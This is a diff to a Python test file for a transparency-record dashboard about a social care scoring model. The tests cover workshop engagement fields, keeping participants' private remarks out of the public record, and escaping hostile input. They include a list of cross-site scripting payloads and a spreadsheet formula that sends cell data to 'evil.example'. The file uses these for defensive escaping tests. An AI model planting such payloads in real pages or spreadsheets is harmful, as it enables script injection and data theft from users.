@@ -17,6 +17,8 @@ from hypothesis import strategies as st
 
 from csc_dash import atrs, metrics, transparency
 from csc_dash.cohort import GROUP_LABELS, load_sample_cohort, load_scored_csv
+from csc_dash.content import atrs as atrs_words
+from csc_dash.workshop.engagement import PUBLIC_FIELDS, TOO_FEW_PEOPLE, Engagement
 
 N_BOOT = 60
 
@@ -72,7 +74,11 @@ SHAPE = {
             "data_sharing_agreements",
             "data_access_and_storage",
         },
-        "risks_mitigations_and_impact_assessments": {"impact_assessments", "engagement_decisions"},
+        "risks_mitigations_and_impact_assessments": {
+            "impact_assessments",
+            "engagement_took_part",
+            "engagement_decisions",
+        },
     },
 }
 # Fields whose values the app computes: never left for a person, never None.
@@ -80,7 +86,27 @@ COMPUTED = {
     "tier_2.tool_specification.model_performance",
     "tier_2.tool_specification.model_performance_by_group",
     "tier_2.data.data_quantities",
+    "tier_2.risks_mitigations_and_impact_assessments.engagement_took_part",
 }
+RISKS = "risks_mitigations_and_impact_assessments"
+TOOK_PART, DECIDED = atrs.ENGAGEMENT_FIELDS
+
+
+def decision(title="Flag fewer families", **changes):
+    """A decision as :func:`csc_dash.workshop.engagement.public_decisions` gives it."""
+    made = {
+        "decision": title,
+        "status": "adopted",
+        "where_it_stands": "We did it",
+        "why": "Too many false alarms.",
+        "what_it_drew_on": "2 statements and 1 saved view",
+        "recorded": "2025-03-14",
+    }
+    return {**made, **changes}
+
+
+def engaged(*decisions, people=12, workshop="Spring workshop"):
+    return Engagement(workshop=workshop, people=people, decisions=tuple(decisions))
 
 
 @pytest.fixture(scope="module")
@@ -281,36 +307,124 @@ def test_no_groups_is_said():
 # --- The decision log ------------------------------------------------------------------------
 
 
-def test_no_decisions_yet(fig):
-    for decisions in (None, []):
-        record = atrs.atrs_record(fig, decisions=decisions)
-        log = record["tier_2"]["risks_mitigations_and_impact_assessments"]["engagement_decisions"]
-        assert log == []
-        assert atrs.NO_DECISIONS in atrs.atrs_html(record, fig)
+def _risks(record):
+    return record["tier_2"][RISKS]
 
 
-def test_decisions_are_shown_as_plain_records(fig):
-    decisions = [
-        {
-            "statement": "Flag fewer families",
-            "status": "adopted",
-            "reason": "Too many false alarms.",
-        },
-        {"statement": "Check by age", "status": "in progress", "reason": None},
-    ]
-    record = atrs.atrs_record(fig, decisions=decisions)
-    log = record["tier_2"]["risks_mitigations_and_impact_assessments"]["engagement_decisions"]
-    assert log[0] == decisions[0] and log[1]["reason"] == ""
+def test_no_workshop_chosen_leaves_what_the_engagement_found_to_write(fig):
+    record = atrs.atrs_record(fig)
+    assert _risks(record)["engagement_took_part"] is None
+    assert _risks(record)["engagement_decisions"] is None
+    todo = dict(atrs.fields_to_write(record))
+    assert TOOK_PART in todo and DECIDED in todo
+    page = atrs.atrs_html(record, fig)
+    assert "<h3>What the engagement found</h3>\n" + f'<p><span class="few">{atrs.TO_WRITE}' in page
+
+
+def test_a_workshop_with_no_decisions_yet(fig):
+    record = atrs.atrs_record(fig, engagement=engaged())
+    took_part = _risks(record)["engagement_took_part"]
+    assert took_part == {
+        "workshop": "Spring workshop",
+        "workshops": 1,
+        "people": 12,
+        "too_few_to_tell": False,
+        "in_words": "12 people took part in one workshop.",
+    }
+    assert _risks(record)["engagement_decisions"] is None
+    todo = dict(atrs.fields_to_write(record))
+    assert TOOK_PART not in todo and DECIDED in todo
+    page = atrs.atrs_html(record, fig)
+    assert atrs.NO_DECISIONS in page and "12 people took part in one workshop." in page
+
+
+def test_decisions_go_into_the_json_and_the_page(fig):
+    first, second = decision(), decision("Check by age", status="in_progress",
+                                         where_it_stands="We are working on it", why="")  # fmt: skip
+    record = atrs.atrs_record(fig, engagement=engaged(second, first))
+    log = _risks(record)["engagement_decisions"]
+    assert log == [second, first]
+    assert json.loads(atrs.atrs_json(record))["tier_2"][RISKS]["engagement_decisions"] == log
+    todo = dict(atrs.fields_to_write(record))
+    assert TOOK_PART not in todo and DECIDED not in todo
     page = atrs.atrs_html(record, fig)
     assert atrs.NO_DECISIONS not in page
-    for text in ("Flag fewer families", "adopted", "Too many false alarms.", "in progress"):
-        assert text in page
-    assert (
-        json.loads(atrs.atrs_json(record))["tier_2"]["risks_mitigations_and_impact_assessments"][
-            "engagement_decisions"
+    # One small table for each decision, its rows in the order of the headings.
+    tables = re.findall(r'<table class="fields decision">.*?</table>', page)
+    assert len(tables) == 2
+    for table, made in zip(tables, log, strict=True):
+        cells = re.findall(r'<th scope="row">([^<]*)</th><td>([^<]*)</td>', table)
+        assert cells == [
+            (html.escape(heading), html.escape(made[name]))
+            for name, heading in atrs_words.DECISION_HEADINGS.items()
         ]
-        == log
-    )
+    assert page.index("Check by age") < page.index("Flag fewer families")
+
+
+def test_only_the_public_fields_of_a_decision_reach_the_record(fig):
+    leaky = {**decision(), "created_by": "ann", "pseudonym": "Robin", "what_you_said": "My son",
+             "links": "statement 4", "decision_id": 7}  # fmt: skip
+    record = atrs.atrs_record(fig, engagement=engaged(leaky))
+    (kept,) = _risks(record)["engagement_decisions"]
+    assert set(kept) == set(PUBLIC_FIELDS.values())
+    for text in (atrs.atrs_json(record), atrs.atrs_html(record, fig)):
+        for secret in ("Robin", "My son", "statement 4", '"ann"', "created_by"):
+            assert secret not in text
+
+
+def test_too_few_people_is_said_not_counted(fig):
+    record = atrs.atrs_record(fig, engagement=engaged(decision(), people=None))
+    took_part = _risks(record)["engagement_took_part"]
+    assert took_part["people"] is None and took_part["too_few_to_tell"] is True
+    assert took_part["in_words"] == TOO_FEW_PEOPLE
+    assert html.escape(TOO_FEW_PEOPLE) in atrs.atrs_html(record, fig)
+
+
+@pytest.mark.parametrize("rationale", [None, "Two workers can look again."])
+@pytest.mark.parametrize(
+    "engagement", [None, engaged(), engaged(decision())], ids=["none", "no decisions", "decisions"]
+)
+def test_prompts_left_with_a_workshop_are_the_records(fig, rationale, engagement):
+    record = atrs.atrs_record(fig, rationale=rationale, engagement=engagement)
+    assert atrs.prompts_left(rationale, engagement=engagement) == [
+        p for _, p in atrs.fields_to_write(record)
+    ]
+    asks = atrs.FIELD_PROMPTS[DECIDED] in atrs.prompts_left(rationale, engagement=engagement)
+    assert asks == (engagement is None or not engagement.decisions)
+
+
+HOSTILE_DECISIONS = [
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    '"><img src=x onerror=alert(1)>',
+    "[click](javascript:alert(1)) **bold**",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_DECISIONS)
+def test_hostile_decisions_are_escaped_in_the_page_and_kept_in_the_json(fig, hostile):
+    made = decision(hostile, why=hostile, what_it_drew_on=hostile, where_it_stands=hostile)
+    record = atrs.atrs_record(fig, engagement=engaged(made, workshop=hostile))
+    page = atrs.atrs_html(record, fig)
+    escaped = html.escape(hostile)
+    assert page.count(escaped) >= 5  # what was decided, where, why, what it drew on, the workshop
+    if escaped != hostile:
+        assert hostile not in page
+    parser = _Tags()
+    parser.feed(page)
+    assert parser.tags <= ALLOWED_TAGS  # no <a>, <img> or <script>: text stays text
+    assert parser.attributes <= {
+        "lang",
+        "charset",
+        "name",
+        "content",
+        "http-equiv",
+        "class",
+        "scope",
+    }
+    loaded = json.loads(atrs.atrs_json(record))["tier_2"][RISKS]
+    assert loaded["engagement_decisions"] == [made]
+    assert loaded["engagement_took_part"]["workshop"] == hostile
 
 
 # --- Safe to open ------------------------------------------------------------------------------
@@ -365,7 +479,9 @@ def test_hostile_upload_rationale_and_decisions_are_escaped(hostile):
         cohort, model=cohort.models[0], threshold=0.5, n_boot=N_BOOT
     )
     record = atrs.atrs_record(
-        fig, rationale=hostile, decisions=[{"statement": hostile, hostile: hostile}]
+        fig,
+        rationale=hostile,
+        engagement=engaged({**decision(hostile), hostile: hostile}, workshop=hostile),
     )
     page = atrs.atrs_html(record, fig)
     assert hostile not in page
@@ -397,16 +513,16 @@ def test_hostile_upload_rationale_and_decisions_are_escaped(hostile):
 @settings(max_examples=25, deadline=None)
 @given(text=st.text(min_size=1, max_size=40))
 def test_any_rationale_is_escaped(fig, text):
-    record = atrs.atrs_record(fig, rationale=text, decisions=[{"reason": text}])
+    record = atrs.atrs_record(fig, rationale=text, engagement=engaged(decision(why=text)))
     page = atrs.atrs_html(record, fig)
     parser = _Tags()
     parser.feed(page)
     assert parser.tags <= ALLOWED_TAGS
     if text.strip():
         assert html.escape(text.strip()) in page
-    assert json.loads(atrs.atrs_json(record))["tier_2"]["risks_mitigations_and_impact_assessments"][
-        "engagement_decisions"
-    ] == [{"reason": text}]
+    assert json.loads(atrs.atrs_json(record))["tier_2"][RISKS]["engagement_decisions"] == [
+        decision(why=text)
+    ]
 
 
 def test_the_page_reads_at_grade_8(fig):
